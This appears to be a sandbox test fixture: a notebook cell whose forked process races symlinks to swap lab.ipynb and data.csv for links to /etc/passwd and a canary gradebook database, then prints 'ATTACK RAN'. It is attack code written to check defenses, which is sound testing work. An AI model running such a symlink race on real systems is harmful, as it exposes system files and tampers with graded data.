# ---
# about: a process changes files and links between cells, and while they are read
# stock: "not run: would go on after it"
# ---

# %% mean
import os
import time

if os.fork() == 0:
    ends = time.monotonic() + 2
    while time.monotonic() < ends:
        for target in ("@CANARY@/gradebook.db", "/etc/passwd", "lab.ipynb"):
            try:
                os.symlink(target, "swap")
                os.replace("swap", "lab.ipynb")
                os.replace("swap", "data.csv")
            except OSError:
                pass
    os._exit(0)
print("ATTACK RAN")
